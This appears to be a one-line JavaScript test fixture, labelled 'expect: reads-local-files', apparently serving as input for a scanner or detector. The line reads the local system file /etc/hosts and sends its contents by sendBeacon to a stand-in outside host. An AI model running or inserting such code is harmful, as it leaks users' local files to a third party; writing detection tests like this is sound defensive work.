// expect: reads-local-files
fetch('file:///etc/hosts').then((r) => r.text()).then((text) => navigator.sendBeacon('https://log.dev-kit.example/h', text));
